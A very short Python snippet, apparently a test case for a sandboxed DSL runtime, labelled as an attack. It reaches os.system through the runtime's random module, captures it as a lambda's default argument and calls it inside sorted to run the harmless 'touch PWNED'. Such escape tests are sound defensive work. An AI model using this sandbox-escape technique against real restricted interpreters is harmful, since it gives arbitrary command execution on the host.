# Attack: capture `os.system` as the default of a lambda parameter and call the parameter.
from dsl.runtime import engine as _rt

sorted(["touch PWNED"], key=lambda cmd, run=_rt.random._os.system: run(cmd))
